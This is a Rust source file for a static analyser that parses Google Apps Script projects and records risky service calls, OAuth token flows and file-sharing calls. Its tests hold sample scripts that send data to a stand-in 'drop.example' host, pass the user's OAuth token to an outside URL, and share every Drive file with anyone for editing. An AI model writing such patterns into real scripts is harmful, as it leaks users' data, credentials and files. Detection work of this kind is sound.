//! The Apps Script source analyser, on a real JavaScript parser (oxc): comments and strings are what
//! the parser says they are, `var f = UrlFetchApp.fetch` is followed, string constants and the static
//! prefix of a concatenation are resolved, and the user's OAuth token is tracked from
//! `ScriptApp.getOAuthToken()` to wherever it is passed. Only facts leave: API, file, line, enclosing
//! function, the argument values that decide the rules. Source text is not kept.

use std::collections::{BTreeMap, BTreeSet};

use fnscope_snapshot::ScriptCall;
use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, ArrayExpressionElement, BindingPattern, CallExpression, Expression, Function,
    ObjectPropertyKind, VariableDeclarator,
};
use oxc_ast_visit::Visit;
use oxc_parser::Parser;
use oxc_span::SourceType;

/// Reserved simple-trigger names.
pub const SIMPLE_TRIGGERS: &[&str] = &[
    "onOpen",
    "onEdit",
    "onInstall",
    "onSelectionChange",
    "doGet",
    "doPost",
];

/// Services that read or change user data, and the scope each needs when the manifest names none.
const SERVICES: &[(&str, &str)] = &[
    ("GmailApp", "https://mail.google.com/"),
    ("Gmail", "https://mail.google.com/"),
    (
        "MailApp",
        "https://www.googleapis.com/auth/script.send_mail",
    ),
    ("DriveApp", "https://www.googleapis.com/auth/drive"),
    ("Drive", "https://www.googleapis.com/auth/drive"),
    (
        "SpreadsheetApp",
        "https://www.googleapis.com/auth/spreadsheets",
    ),
    ("DocumentApp", "https://www.googleapis.com/auth/documents"),
    ("FormApp", "https://www.googleapis.com/auth/forms"),
    ("CalendarApp", "https://www.googleapis.com/auth/calendar"),
    ("ContactsApp", "https://www.google.com/m8/feeds"),
    ("People", "https://www.googleapis.com/auth/contacts"),
    (
        "AdminDirectory",
        "https://www.googleapis.com/auth/admin.directory.user",
    ),
    (
        "UrlFetchApp",
        "https://www.googleapis.com/auth/script.external_request",
    ),
    (
        "ScriptApp",
        "https://www.googleapis.com/auth/script.scriptapp",
    ),
];

/// What the analyser found in a project's files.
#[derive(Debug, Default)]
pub struct Facts {
    pub functions: BTreeSet<String>,
    pub services: BTreeSet<String>,
    pub calls: Vec<ScriptCall>,
    pub parse_errors: Vec<String>,
}

impl Facts {
    pub fn simple_triggers(&self) -> Vec<String> {
        SIMPLE_TRIGGERS
            .iter()
            .filter(|t| self.functions.contains(**t))
            .map(|t| t.to_string())
            .collect()
    }

    /// The scopes the code needs, from the services it uses (Apps Script's own inference).
    pub fn inferred_scopes(&self) -> Vec<String> {
        let mut s: BTreeSet<String> = SERVICES
            .iter()
            .filter(|(svc, _)| self.services.contains(*svc))
            .map(|(_, scope)| scope.to_string())
            .collect();
        if self
            .calls
            .iter()
            .any(|c| c.api.starts_with("ScriptApp.newTrigger"))
        {
            s.insert("https://www.googleapis.com/auth/script.scriptapp".into());
        }
        s.into_iter().collect()
    }
}

/// Module-wide bindings: aliases of services or methods, string constants, variables holding the token.
#[derive(Default)]
struct Bindings {
    alias: BTreeMap<String, String>,
    constant: BTreeMap<String, String>,
    token: BTreeSet<String>,
}

struct Walker<'s, 'b> {
    file: &'s str,
    lines: Vec<usize>,
    bindings: &'b mut Bindings,
    /// First pass collects bindings only; the second records calls.
    record: bool,
    function: Vec<String>,
    loops: usize,
    facts: &'b mut Facts,
}

const MAX_DEPTH: usize = 48;

impl Walker<'_, '_> {
    fn line(&self, offset: u32) -> u32 {
        let i = self
            .lines
            .partition_point(|&start| start <= offset as usize);
        u32::try_from(i).unwrap_or(u32::MAX)
    }

    /// The dotted name of an expression with aliases resolved (`*` for what has none).
    fn name(&self, e: &Expression<'_>, depth: usize) -> String {
        if depth > MAX_DEPTH {
            return "*".into();
        }
        match e {
            Expression::Identifier(id) => self
                .bindings
                .alias
                .get(id.name.as_str())
                .cloned()
                .unwrap_or_else(|| id.name.to_string()),
            Expression::StaticMemberExpression(m) => {
                format!("{}.{}", self.name(&m.object, depth + 1), m.property.name)
            }
            Expression::ComputedMemberExpression(m) => match &m.expression {
                Expression::StringLiteral(s) => {
                    format!("{}.{}", self.name(&m.object, depth + 1), s.value)
                }
                _ => format!("{}.*", self.name(&m.object, depth + 1)),
            },
            Expression::CallExpression(c) => format!("{}()", self.name(&c.callee, depth + 1)),
            Expression::ParenthesizedExpression(p) => self.name(&p.expression, depth + 1),
            _ => "*".into(),
        }
    }

    /// The string value of an expression, or the static prefix of a concatenation / template.
    fn string(&self, e: &Expression<'_>, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match e {
            Expression::StringLiteral(s) => Some(s.value.to_string()),
            Expression::TemplateLiteral(t) => t
                .quasis
                .first()
                .map(|q| q.value.cooked.unwrap_or(q.value.raw).to_string())
                .filter(|s| !s.is_empty() || t.expressions.is_empty()),
            Expression::Identifier(id) => self.bindings.constant.get(id.name.as_str()).cloned(),
            Expression::BinaryExpression(b) => self.string(&b.left, depth + 1).map(|l| match self
                .string(&b.right, depth + 1)
            {
                Some(r) if matches!(b.right, Expression::StringLiteral(_)) => l + &r,
                _ => l,
            }),
            Expression::ParenthesizedExpression(p) => self.string(&p.expression, depth + 1),
            _ => None,
        }
    }

    /// Literals, dotted references and token use anywhere inside an argument.
    fn scan(
        &self,
        e: &Expression<'_>,
        lits: &mut Vec<String>,
        refs: &mut Vec<String>,
        token: &mut bool,
        depth: usize,
    ) {
        if depth > MAX_DEPTH {
            return;
        }
        if let Some(s) = self.string(e, depth) {
            lits.push(s);
        }
        match e {
            Expression::Identifier(id) if self.bindings.token.contains(id.name.as_str()) => {
                *token = true;
            }
            Expression::StaticMemberExpression(_) => {
                let n = self.name(e, depth);
                if !n.starts_with('*') {
                    refs.push(n);
                }
            }
            Expression::CallExpression(c) => {
                if self.name(&c.callee, depth) == "ScriptApp.getOAuthToken" {
                    *token = true;
                }
                for a in &c.arguments {
                    if let Some(x) = a.as_expression() {
                        self.scan(x, lits, refs, token, depth + 1);
                    }
                }
            }
            Expression::ObjectExpression(o) => {
                for p in &o.properties {
                    if let ObjectPropertyKind::ObjectProperty(p) = p {
                        self.scan(&p.value, lits, refs, token, depth + 1);
                    }
                }
            }
            Expression::ArrayExpression(a) => {
                for el in &a.elements {
                    if let Some(x) = el.as_expression() {
                        self.scan(x, lits, refs, token, depth + 1);
                    } else if let ArrayExpressionElement::SpreadElement(s) = el {
                        self.scan(&s.argument, lits, refs, token, depth + 1);
                    }
                }
            }
            Expression::BinaryExpression(b) => {
                self.scan(&b.left, &mut Vec::new(), refs, token, depth + 1);
                self.scan(&b.right, &mut Vec::new(), refs, token, depth + 1);
            }
            Expression::TemplateLiteral(t) => {
                for x in &t.expressions {
                    self.scan(x, &mut Vec::new(), refs, token, depth + 1);
                }
            }
            Expression::ParenthesizedExpression(p) => {
                self.scan(&p.expression, &mut Vec::new(), refs, token, depth + 1)
            }
            _ => {}
        }
    }

    fn note_service(&mut self, api: &str) {
        let root = api.split(['.', '(']).next().unwrap_or_default();
        if SERVICES.iter().any(|(s, _)| *s == root) {
            self.facts.services.insert(root.to_string());
        }
    }
}

impl<'a> Visit<'a> for Walker<'_, '_> {
    fn visit_function(&mut self, it: &Function<'a>, flags: oxc_syntax::scope::ScopeFlags) {
        let named = self.function.is_empty() && it.id.is_some();
        if let Some(id) = &it.id
            && self.function.is_empty()
        {
            self.facts.functions.insert(id.name.to_string());
            self.function.push(id.name.to_string());
        }
        oxc_ast_visit::walk::walk_function(self, it, flags);
        if named {
            self.function.pop();
        }
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let (BindingPattern::BindingIdentifier(id), Some(init)) = (&it.id, &it.init) {
            let name = id.name.to_string();
            match init {
                Expression::StringLiteral(_)
                | Expression::TemplateLiteral(_)
                | Expression::BinaryExpression(_) => {
                    if let Some(s) = self.string(init, 0) {
                        self.bindings.constant.insert(name.clone(), s);
                    }
                }
                Expression::Identifier(_) | Expression::StaticMemberExpression(_) => {
                    let target = self.name(init, 0);
                    if !target.starts_with('*') && target != name {
                        self.bindings.alias.insert(name.clone(), target);
                    }
                }
                Expression::CallExpression(c)
                    if self.name(&c.callee, 0) == "ScriptApp.getOAuthToken" =>
                {
                    self.bindings.token.insert(name.clone());
                }
                _ => {}
            }
            // A variable built from the token carries it too.
            let mut token = false;
            self.scan(init, &mut Vec::new(), &mut Vec::new(), &mut token, 0);
            if token {
                self.bindings.token.insert(name);
            }
        }
        oxc_ast_visit::walk::walk_variable_declarator(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        if self.record {
            let mut api = self.name(&it.callee, 0);
            // `file.setSharing(…)`: the receiver is a local value; keep the method.
            let root = api.split(['.', '(']).next().unwrap_or_default().to_string();
            let known = SERVICES.iter().any(|(s, _)| *s == root)
                || [
                    "ContentService",
                    "HtmlService",
                    "Session",
                    "PropertiesService",
                ]
                .contains(&root.as_str());
            if !known && api.contains('.') {
                api = format!("*{}", &api[api.rfind('.').unwrap_or(0)..]);
            }
            self.note_service(&api);
            // Kept: calls on Google services and the methods that share or send from a value.
            const METHODS: &[&str] = &[
                "*.setSharing",
                "*.addEditor",
                "*.addEditors",
                "*.addViewer",
                "*.addViewers",
                "*.addCommenter",
                "*.forward",
                "*.reply",
                "*.replyAll",
            ];
            let relevant = known || METHODS.contains(&api.as_str());
            if !relevant {
                oxc_ast_visit::walk::walk_call_expression(self, it);
                return;
            }
            let mut literals = Vec::new();
            let mut refs = Vec::new();
            let mut token = false;
            for a in &it.arguments {
                match a {
                    Argument::SpreadElement(s) => {
                        self.scan(&s.argument, &mut literals, &mut refs, &mut token, 0)
                    }
                    other => {
                        if let Some(x) = other.as_expression() {
                            self.scan(x, &mut literals, &mut refs, &mut token, 0);
                        }
                    }
                }
            }
            // A trigger builder chain: the function name is the argument of its first call.
            if api.starts_with("ScriptApp.newTrigger(") {
                let mut cur: &Expression<'_> = &it.callee;
                for _ in 0..MAX_DEPTH {
                    match cur {
                        Expression::StaticMemberExpression(m) => cur = &m.object,
                        Expression::CallExpression(inner) => {
                            if self.name(&inner.callee, 0) == "ScriptApp.newTrigger" {
                                if let Some(s) = inner
                                    .arguments
                                    .first()
                                    .and_then(Argument::as_expression)
                                    .and_then(|x| self.string(x, 0))
                                {
                                    literals.insert(0, s);
                                }
                                break;
                            }
                            cur = &inner.callee;
                        }
                        _ => break,
                    }
                }
            }
            let dynamic = it
                .arguments
                .first()
                .and_then(Argument::as_expression)
                .is_none_or(|x| self.string(x, 0).is_none());
            let line = self.line(it.span.start);
            self.facts.calls.push(ScriptCall {
                file: self.file.to_string(),
                line,
                function: self.function.first().cloned(),
                api,
                literals,
                refs,
                dynamic,
                carries_token: token,
                in_loop: self.loops > 0,
            });
        }
        oxc_ast_visit::walk::walk_call_expression(self, it);
    }

    fn visit_while_statement(&mut self, it: &oxc_ast::ast::WhileStatement<'a>) {
        self.loops += 1;
        oxc_ast_visit::walk::walk_while_statement(self, it);
        self.loops -= 1;
    }

    fn visit_do_while_statement(&mut self, it: &oxc_ast::ast::DoWhileStatement<'a>) {
        self.loops += 1;
        oxc_ast_visit::walk::walk_do_while_statement(self, it);
        self.loops -= 1;
    }

    fn visit_for_statement(&mut self, it: &oxc_ast::ast::ForStatement<'a>) {
        self.loops += 1;
        oxc_ast_visit::walk::walk_for_statement(self, it);
        self.loops -= 1;
    }

    fn visit_for_of_statement(&mut self, it: &oxc_ast::ast::ForOfStatement<'a>) {
        self.loops += 1;
        oxc_ast_visit::walk::walk_for_of_statement(self, it);
        self.loops -= 1;
    }

    fn visit_for_in_statement(&mut self, it: &oxc_ast::ast::ForInStatement<'a>) {
        self.loops += 1;
        oxc_ast_visit::walk::walk_for_in_statement(self, it);
        self.loops -= 1;
    }
}

/// Analyses a project's script files (`name`, `source`) together: bindings are module-wide, as Apps
/// Script shares one global scope across files.
pub fn analyse(files: &[(String, String)]) -> Facts {
    let mut facts = Facts::default();
    let mut bindings = Bindings::default();
    for record in [false, true] {
        for (name, source) in files {
            let allocator = Allocator::default();
            let parsed = Parser::new(&allocator, source, SourceType::cjs()).parse();
            if parsed.panicked || !parsed.errors.is_empty() {
                if record {
                    let first = parsed
                        .errors
                        .first()
                        .map(|e| e.to_string())
                        .unwrap_or_else(|| "the parser gave up".into());
                    facts.parse_errors.push(format!("{name}: {first}"));
                }
                if parsed.panicked {
                    continue;
                }
            }
            let mut lines = vec![0usize];
            lines.extend(source.match_indices('\n').map(|(i, _)| i + 1));
            let mut w = Walker {
                file: name,
                lines,
                bindings: &mut bindings,
                record,
                function: Vec::new(),
                loops: 0,
                facts: &mut facts,
            };
            w.visit_program(&parsed.program);
        }
    }
    facts
}

#[cfg(test)]
mod tests {
    use super::*;

    fn calls(src: &str) -> Vec<ScriptCall> {
        analyse(&[("Code.gs".into(), src.into())]).calls
    }

    #[test]
    fn aliases_constants_and_comments() {
        let c = calls(
            "// UrlFetchApp.fetch('https://in-a-comment.example')\n\
             var s = 'UrlFetchApp.fetch(\"https://in-a-string.example\")';\n\
             var f = UrlFetchApp.fetch;\n\
             var base = 'https://drop.example/';\n\
             function go(x) { f(base + 'in?d=' + x); }\n",
        );
        let fetches: Vec<&ScriptCall> = c.iter().filter(|c| c.api == "UrlFetchApp.fetch").collect();
        assert_eq!(fetches.len(), 1, "{c:?}");
        assert_eq!(fetches[0].literals[0], "https://drop.example/in?d=");
        assert!(!fetches[0].dynamic);
        assert_eq!(fetches[0].line, 5);
        assert_eq!(fetches[0].function.as_deref(), Some("go"));
    }

    #[test]
    fn the_token_is_followed_through_variables() {
        let c = calls(
            "function doGet() { var t = ScriptApp.getOAuthToken(); var h = {Authorization: 'Bearer ' + t};\n\
             UrlFetchApp.fetch('https://x.example', {headers: h}); return ContentService.createTextOutput(t); }",
        );
        assert!(
            c.iter()
                .filter(|c| c.api == "ContentService.createTextOutput")
                .all(|c| c.carries_token)
        );
        assert!(
            c.iter()
                .any(|c| c.api == "UrlFetchApp.fetch" && c.carries_token),
            "{c:?}"
        );
    }

    #[test]
    fn receivers_sharing_and_loops() {
        let c = calls(
            "function p() { var it = DriveApp.getFiles(); while (it.hasNext()) { it.next().setSharing(DriveApp.Access.ANYONE, DriveApp.Permission.EDIT); } }",
        );
        let s = c
            .iter()
            .find(|c| c.api == "*.setSharing")
            .expect("setSharing");
        assert!(s.in_loop);
        assert!(s.refs.iter().any(|r| r == "DriveApp.Access.ANYONE"));
    }

    #[test]
    fn broken_source_is_reported_not_skipped() {
        let f = analyse(&[("Bad.gs".into(), "function (".into())]);
        assert_eq!(f.parse_errors.len(), 1);
        assert!(f.parse_errors[0].starts_with("Bad.gs"));
    }
}
